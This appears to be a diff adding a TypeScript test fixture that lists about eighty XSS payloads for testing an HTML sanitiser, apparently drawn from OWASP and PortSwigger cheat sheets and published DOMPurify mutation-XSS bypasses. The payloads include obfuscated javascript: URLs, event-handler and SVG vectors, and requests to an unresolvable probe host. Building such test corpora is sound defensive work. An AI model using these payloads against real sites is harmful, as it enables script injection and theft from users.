@@ -1,0 +1,98 @@
+// A corpus of XSS payloads for product and blog HTML (issue 5, decision 011), after the OWASP XSS filter evasion
+// cheat sheet, PortSwigger's XSS cheat sheet and published DOMPurify mutation-XSS bypasses. Every payload that
+// fires calls alert(), sets window.__xss or asks for a URL on the probe host, so a browser test can see it.
+// Shared by the API test (stored HTML) and the web app's Chromium test (apps/web/e2e/xss.e2e.ts).
+
+/** A host that never resolves (RFC 6761): any request to it means a payload made the browser fetch. */
+export const XSS_PROBE_HOST = 'xss.invalid';
+const PROBE = `https://${XSS_PROBE_HOST}`;
+
+export const XSS_PAYLOADS: readonly string[] = [
+  // Script elements, plain and disguised
+  '<script>alert(1)</script>',
+  '<script>window.__xss=1</script>',
+  `<SCRIPT SRC=${PROBE}/xss.js></SCRIPT>`,
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<<script>alert(1);//<</script>',
+  '<img """><script>alert(1)</script>">',
+  '<script/src="data:text/javascript,alert(1)"></script>',
+  '\u0000<script>window.__xss=1</script>',
+  // Event handlers on elements that fire them by themselves
+  '<img src=x onerror=alert(1)>',
+  '<img src="x" onerror="window.__xss=1">',
+  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
+  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
+  '<img src=`x`onerror=alert(1)>',
+  '<img srcset="x 1x" onerror="window.__xss=1">',
+  '<img src=x onerror=alert(1)//',
+  '<body onload=alert(1)>',
+  '<input autofocus onfocus=alert(1)>',
+  '<select autofocus onfocus=alert(1)></select>',
+  '<textarea autofocus onfocus=alert(1)></textarea>',
+  '<keygen autofocus onfocus=alert(1)>',
+  '<details open ontoggle=alert(1)>',
+  '<video><source onerror="window.__xss=1"></video>',
+  '<audio src=x onerror=alert(1)>',
+  '<marquee onstart=alert(1)>marquee</marquee>',
+  '<div onpointerenter=alert(1) style="position:fixed;inset:0">hover me</div>',
+  '<a href="#" tabindex=1 onfocus=alert(1) autofocus>focus</a>',
+  '<a href="https://example.com/" onclick="alert(1)" onmouseover="window.__xss=1">handlers on a good link</a>',
+  '<p onclick="alert(1)">a paragraph with a handler</p>',
+  '<isindex type=image src=1 onerror=alert(1)>',
+  // SVG
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>click</text></a></svg>',
+  '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
+  '<svg><style><img src=x onerror=alert(1)></style></svg>',
+  '<svg><foreignObject><img src=x onerror=window.__xss=1></foreignObject></svg>',
+  `<svg><image href="${PROBE}/svg-image.png"/></svg>`,
+  // javascript:, vbscript: and data: URLs, with entity and whitespace obfuscation
+  '<a href="javascript:alert(1)">plain</a>',
+  '<a href="JaVaScRiPt:alert(1)">mixed case</a>',
+  '<a href="jav&#x09;ascript:alert(1)">tab entity</a>',
+  '<a href="jav&#x0A;ascript:alert(1)">newline entity</a>',
+  '<a href="jav\tascript:alert(1)">raw tab</a>',
+  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">decimal entities</a>',
+  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">hex entities</a>',
+  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">zero padded</a>',
+  '<a href=" &#14;  javascript:alert(1)">leading control character</a>',
+  '<a href="javascript&colon;alert(1)">named colon</a>',
+  '<a href="vbscript:msgbox(1)">vbscript</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data URL</a>',
+  '<IMG SRC=javascript:alert(1)>',
+  `<a href="//${XSS_PROBE_HOST}/protocol-relative">protocol relative</a>`,
+  // Frames, objects and embeds
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
+  `<iframe src="${PROBE}/frame"></iframe>`,
+  '<object data="javascript:alert(1)"></object>',
+  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
+  '<object><param name="src" value="javascript:alert(1)"></object>',
+  '<embed src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">',
+  // Mutation XSS: content that parses differently the second time
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
+  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
+  '<template><img src=x onerror=alert(1)></template>',
+  '<p title="</p><img src=x onerror=alert(1)>">attribute break-out</p>',
+  '<a href="https://example.com/" title=\'" onmouseover="alert(1)\'>quote break-out</a>',
+  '<!--<img src="--><img src=x onerror=alert(1)//">',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  // Styles, refreshes, forms and base URLs
+  '<div style="background-image:url(javascript:alert(1))">style url</div>',
+  '<div style="width: expression(alert(1));">style expression</div>',
+  `<style>@import '${PROBE}/import.css';</style>`,
+  `<link rel="stylesheet" href="${PROBE}/link.css">`,
+  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+  `<meta http-equiv="refresh" content="0;url=${PROBE}/refresh">`,
+  '<form action="javascript:alert(1)"><button>submit</button></form>',
+  '<button formaction="javascript:alert(1)">go</button>',
+  '<base href="javascript:alert(1)//">',
+  `<base href="${PROBE}/">`,
+  `<img src="${PROBE}/pixel.gif">`,
+];
